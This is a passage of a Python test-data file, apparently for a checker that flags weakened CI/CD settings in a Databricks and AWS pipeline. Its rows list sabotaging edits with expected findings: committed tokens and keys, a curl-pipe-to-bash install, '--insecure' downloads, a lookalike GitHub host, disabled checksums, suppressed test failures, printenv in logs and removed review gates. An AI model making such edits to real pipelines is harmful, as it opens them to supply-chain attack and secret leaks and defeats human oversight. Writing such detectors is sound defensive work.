        says="PullRequestBuild",
    ),
    row(
        "a webhook starts a build",
        setting("PullRequestBuild", "Triggers: {Webhook: true}"),
        says="PullRequestBuild",
    ),
]

SECRETS = [
    row(
        "a token beside the pins",
        New(PINS, f"DATABRICKS_TOKEN={TOKEN}\n"),
        says="tools.env: holds a Databricks token",
    ),
    row(
        "a token as a variable of the bundle",
        Edit("default: samples.nyctaxi.trips", f"default: {TOKEN}", file=BUNDLE),
        says="token",
    ),
    row(
        "an AWS key in a buildspec",
        Edit('    CI: "true"', f'    AWS_ACCESS_KEY_ID: {AWS_KEY}\n    CI: "true"', file=QA),
        says="key",
    ),
    row(
        "a value in place of the placeholder",
        Edit(
            'SecretStringTemplate: \'{"token": "not-set"}\'',
            'SecretStringTemplate: \'{"token": "not-set", "old": "' + TOKEN + "\"}'",
        ),
        says="token",
    ),
    row(
        "a secret's value in the stack",
        Edit(
            "      GenerateSecretString:",
            '      SecretString: \'{"token": "not-set"}\'\n      Foo:',
            of("QaSecret"),
        ),
        says="QaSecret",
    ),
    row(
        "a password in a job's address",
        Edit(
            "source_table: ${var.source_table}",
            "source_table: jdbc:postgresql://db.example.com/x?user=etl&password=Winter2026",
            file=JOB,
        ),
        says="password",
    ),
    row(
        "a token in the Makefile",
        New("Makefile", f"export DATABRICKS_TOKEN := {TOKEN}\n"),
        says="token",
    ),
    row(
        "a token in a notebook",
        New("src/notebooks/sample_notebook.py", f'\nACCESS = "{TOKEN}"\n'),
        says="token",
    ),
    row(
        "a client's profile in the repository",
        New(
            ".databrickscfg", f"[DEFAULT]\nhost = https://x.cloud.databricks.com\ntoken = {TOKEN}\n"
        ),
        says=".databrickscfg",
    ),
    row(
        "a private key in the repository",
        New("cicd/deploy.pem", "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n"),
        says="private key",
    ),
]

PACKAGES = [
    row(
        "a second index on pip's command line",
        Edit(
            "pip install --quiet",
            "pip install --quiet --extra-index-url https://packages.example.com/simple",
            file=QA,
        ),
        says="--extra-index-url",
    ),
    row(
        "a package from an address",
        command(
            PULL_REQUEST,
            '- export STEP="make check"',
            "pip install git+https://github.com/someone/x",
        ),
        says="git+https",
    ),
    row(
        "a script from the network",
        command(
            QA,
            "- python cicd/steps/preflight.py qa",
            "curl -sSf https://example.com/install.sh | bash",
        ),
        says="curl",
    ),
    row(
        "an index of the project",
        New(PROJECT, '\n[[tool.uv.index]]\nurl = "https://packages.example.com/simple"\n'),
        says="index",
    ),
    row(
        "the client without TLS",
        Edit("BASE_URL=https://", "BASE_URL=http://", file=PINS),
        says="https",
    ),
    row(
        "the client from a host that looks like the known one",
        Edit("https://github.com/", "https://github.com.example.net/", file=PINS),
        says="github.com",
    ),
    row(
        "the client without its checksum",
        Edit('[ "$actual" = "$published" ] ||', "true ||", file=INSTALL),
        says="install_cli.sh",
    ),
    row(
        "the client from whoever answers",
        Edit("curl ", "curl --insecure ", file=INSTALL),
        says="--insecure",
    ),
]

COMMANDS = [
    row(
        "make test passes whatever happens",
        Edit("\tuv run pytest", "\t-uv run pytest", file="Makefile"),
        says="uv run pytest",
    ),
    row(
        "make check passes whatever happens",
        Edit("-m ops check", "-m ops check || true", file="Makefile"),
        says="-m ops check",
    ),
    row(
        "make lint looks at nothing",
        Edit("\tuv run ruff check\n", "\t@echo ruff\n", file="Makefile"),
        says="uv run ruff check",
    ),
    row("nobody hears of drift", Drop("aws sns publish", file=DRIFT), says="aws sns publish"),
    row(
        "production without the second pair of eyes",
        Drop("four_eyes.py", file=PRODUCTION),
        says="four_eyes.py",
    ),
    row(
        "packages without their hashes",
        Edit("--require-hashes ", "", file=PLAN),
        says="--require-hashes",
    ),
    row("the plan takes any number of wheels", Drop("wheels.py", file=PLAN), says="wheels.py"),
    row(
        "QA goes on after a failed phase",
        Edit("  build:\n", "  build:\n    on-failure: CONTINUE\n", file=QA),
        says="on-failure",
    ),
    row(
        "QA's tests may fail",
        Edit("make check lint test build", "make check lint test build || true", file=QA),
        says="|| true",
    ),
    row(
        "QA's lint may fail",
        Edit("make check lint test build", "make check lint; make test build", file=QA),
        says="make check lint",
    ),
    row(
        "the pull request's check may fail",
        Edit("&& make check\n", "&& make check || echo never mind\n", file=PULL_REQUEST),
        says="||",
    ),
    row(
        "a command's failure does not count",
        Edit(
            "bundle validate --strict -t prod", "bundle validate --strict -t prod; true", file=PLAN
        ),
        says="; true",
    ),
    row("failures do not count", command(QA, "- make check lint", "set +e"), says="set +e"),
    row(
        "a script does not stop",
        Edit("set -euo pipefail", "set -u", file=NUTTER),
        says="set -euo pipefail",
    ),
    row("a script always ends well", Edit('exit "$status"', "exit 0", file=NUTTER), says="exit 0"),
    row("QA without the preflight", Drop("preflight.py qa", file=QA), says="preflight.py"),
    row(
        "production without the preflight",
        Drop('preflight.py" prod', file=PRODUCTION),
        says="preflight.py",
    ),
    row(
        "the plan without the preflight", Drop('preflight.py" prod', file=PLAN), says="preflight.py"
    ),
    row(
        "QA without the check",
        Edit("make check lint test build", "make lint test build", file=QA),
        says="make check",
    ),
    row(
        "QA without the tests",
        Edit("make check lint test build", "make check lint build", file=QA),
        says="make test",
    ),
    row(
        "QA without warnings",
        Edit("validate --strict -t qa", "validate -t qa", file=QA),
        says="--strict",
    ),
    row("QA is not validated", Drop("bundle validate", file=QA), says="validate"),
    row("the plan is not validated", Drop("bundle validate", file=PLAN), says="validate"),
    row("QA without nutter", Drop("run_nutter.sh qa", file=QA), says="run_nutter.sh"),
    row(
        "QA is validated after it was deployed",
        Drop("bundle validate", file=QA),
        Edit(
            "      - bash cicd/steps/run_nutter.sh qa",
            "      - databricks bundle validate --strict -t qa\n      - bash cicd/steps/run_nutter.sh qa",
            file=QA,
        ),
        says="comes too early",
    ),
    row("the plan is not shown", Drop('plan.py" show', file=PLAN), says="plan.py show"),
    row(
        "the plan's checksum is not handed on",
        Drop("export PLAN_SHA256", file=PLAN),
        says="PLAN_SHA256",
    ),
    row(
        "the wheel's checksum is a constant",
        Edit("WHEEL_SHA256=", "WHEEL_SHA256=x  # ", file=PLAN),
        says="WHEEL_SHA256",
    ),
    row(
        "the plan build deploys",
        command(PLAN, "- databricks bundle plan", "databricks bundle deploy -t prod"),
        says="deploy",
    ),
    row(
        "production deploys without the plan",
        Edit(
            'python "$STEPS/deploy.py" "$CODEBUILD_SRC_DIR_Plan/plan.json"',
            "databricks bundle deploy -t prod --auto-approve",
            file=PRODUCTION,
        ),
        says="deploy",
    ),
    row("a pull request is not tested", Drop("make test", file=PULL_REQUEST), says="make test"),
    row("a pull request is not checked", Drop("make check", file=PULL_REQUEST), says="make check"),
    row(
        "a pull request gets no comment", Drop("post_build:", file=PULL_REQUEST), says="comment.py"
    ),
    row(
        "QA hands on all of its files",
        Edit('files: ["dist/*.whl"]', 'files: ["**/*"]', file=QA),
        says="dist/*.whl",
    ),
    row(
        "the plan hands on a wheel",
        Edit("files: [plan.json, plan.md]", "files: [plan.json, plan.md, dist/*]", file=PLAN),
        says="plan.json",
    ),
    row(
        "a log shows the environment",
        command(PLAN, "- databricks bundle plan", "printenv"),
        says="printenv",
    ),
    row(
        "a log shows every command with its values",
        command(QA, "- make check lint", "set -x"),
        says="set -x",
    ),
    row("nothing is compared with production", Drop("drift.sh", file=DRIFT_BUILD), says="drift.sh"),
    row(
        "the plan takes another cicd/ than the administrator's",
        Drop("same_cicd.py", file=PLAN),
        says="same_cicd.py",
    ),
    row(
        "the plan runs the commit's own steps",
        Edit(
            'STEPS="$CODEBUILD_SRC_DIR/cicd/steps"',
            'STEPS="$CODEBUILD_SRC_DIR_Source/cicd/steps"',
            file=PLAN,
        ),
        says="STEPS",
    ),
    row(
        "production runs the commit's own steps",
        Edit('python "$STEPS/deploy.py"', "python cicd/steps/deploy.py", file=PRODUCTION),
        says="deploy.py",
    ),
    row(
        "production takes whatever wheel is there",
        Drop("take_wheel.sh", file=PRODUCTION),
        says="take_wheel.sh",
    ),
]

TARGETS = [
    row(
        "production in development mode",
        Edit("mode: production", "mode: development", of("prod"), BUNDLE),
        says="prod",
    ),
    row("production without a mode", Drop("mode: production", of("prod"), BUNDLE), says="prod"),
    row(
        "QA in development mode",
        Edit("mode: production", "mode: development", of("qa"), BUNDLE),
        says="qa",
    ),
    row(
        "production in QA's catalog",
        Edit('catalog: "prod"', 'catalog: "qa"', of("prod"), BUNDLE),
        says="catalog",
    ),
    row(
        "QA in production's catalog",
        Edit('catalog: "qa"', 'catalog: "prod"', of("qa"), BUNDLE),
        says="catalog",
    ),
    row(
        "production in QA's workspace",
        Edit("//prod-workspace", "//qa-workspace", of("prod"), BUNDLE),
        says="prod's host",
    ),
    row(
        "production below a shared folder",
        Edit(
            "/Workspace/Users/${workspace.current_user.userName}",
            "/Workspace/Shared",
            of("prod"),
            BUNDLE,
        ),
        says="root_path",
    ),
    row(
        "production below QA's folder",
        Edit("${bundle.target}", "qa", of("prod"), BUNDLE),
        says="root_path",
    ),
    row(
        "production's folder is the client's to choose",
        Drop("root_path", of("prod"), BUNDLE),
        says="prod: root_path is not set; set /Workspace/Users/",
    ),
    row("production from any branch", Drop("git:", of("prod"), BUNDLE), says="branch"),
    row(
        "production is the default target",
        Drop("default: true", of("development"), BUNDLE),
        Edit("mode: production", "mode: production\n    default: true", of("prod"), BUNDLE),
        says="default",
    ),
    row(
        "two deployments at a time",
        Edit("bundle:\n", "bundle:\n  deployment: {lock: {enabled: false}}\n", file=BUNDLE),
        says="lock",
    ),
    row(
        "a deployment runs scripts",
        Edit("experimental:\n", "experimental:\n  scripts: {predeploy: ./x.sh}\n", file=BUNDLE),
        says="scripts",
    ),
    row(
        "production builds its own wheel",
        Edit(
            "mode: production\n",
            "mode: production\n    artifacts: {wheel: {type: whl, build: make build}}\n",
            of("prod"),
            BUNDLE,
        ),
        says="artifacts",
    ),
    row(
        "every user manages the job",
        Edit("level: CAN_VIEW", "level: CAN_MANAGE", file=JOB),
        says="CAN_MANAGE",
    ),
    row(
        "QA's schedule runs",
        Drop("trigger_pause_status", of("qa"), BUNDLE),
        says="trigger_pause_status",
    ),
]

# What the check does not see, and who does. Nor does it see a change of its own tables (GATES, FACTS,
# MAY): they are the second edit, for the reviewer.
NOT_CAUGHT = [
    # A parameter that is there to be set; its description says what it means.
    row(
        "pull requests run in the VPC of the workspaces",
        Edit('Default: "false"', 'Default: "true"', of("PullRequestsInVpc")),
        says="PullRequestsInVpc",
    ),
    # The code of a step: its own tests and its reviewer see it, and production runs another one
    # only after `make stack`.
    row(
        "a step's own code is weaker",
        Edit("sys.exit(main())", "main()", file="cicd/steps/preflight.py"),
        says="",
    ),
]

WEAKENINGS = {
    "trust": TRUST,
    "rights": RIGHTS,
    "people": PEOPLE,
    "resource policies": RESOURCE_POLICIES,
    "stores": STORES,
    "parameters": PARAMETERS,
    "starts": STARTS,
    "pipeline": PIPELINE,
    "builds": BUILDS,
    "secrets": SECRETS,
    "packages": PACKAGES,
    "commands": COMMANDS,
    "targets": TARGETS,
}
